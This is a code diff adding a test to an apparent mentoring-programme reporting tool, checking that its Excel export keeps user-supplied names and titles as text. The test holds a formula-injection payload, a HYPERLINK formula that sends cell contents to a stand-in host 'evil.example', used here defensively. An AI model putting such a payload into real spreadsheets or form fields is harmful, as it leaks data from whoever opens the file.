@@ -29,7 +29,7 @@ from clusterbridge.reports.exporters import (
 )
 from clusterbridge.reports.impact import build_impact_report
 from tests.conftest import World
-from tests.journeys.factories import NOW, log_of, ratings
+from tests.journeys.factories import IN_PROGRAMME, NOW, log_of, ratings
 
 
 def _assess(world: World, pair_name: str, stage: str, value: int) -> None:
@@ -112,6 +112,28 @@ def test_the_workbook_has_one_sheet_per_table(assessed: World) -> None:
     assert areas.sheet_view.rightToLeft is True
     assert areas["B2"].value == 2  # n of the first area, a number, not text
     assert next(cell.value for cell in areas[1]) == "مجال الكفاءة"
+
+
+def test_names_and_titles_stay_text_in_the_workbook(assessed: World) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    person = assessed.pair.mentee.person
+    person.full_name = "=1+1"
+    person.save()
+    services.report_service(
+        mentee=assessed.pair.mentee,
+        reported_by=person,
+        title=hyperlink,
+        is_new=True,
+        launched_on=IN_PROGRAMME,
+    )
+    _, _, content = render_xlsx(build_impact_report(assessed.reloaded, now=NOW))
+
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    services_sheet = workbook.worksheets[1 + 5]
+    mentee, _organisation, service = (cell.value for cell in services_sheet[2][:3])
+    assert (mentee, service) == ("'=1+1", "'" + hyperlink)
 
 
 @pytest.mark.skipif(
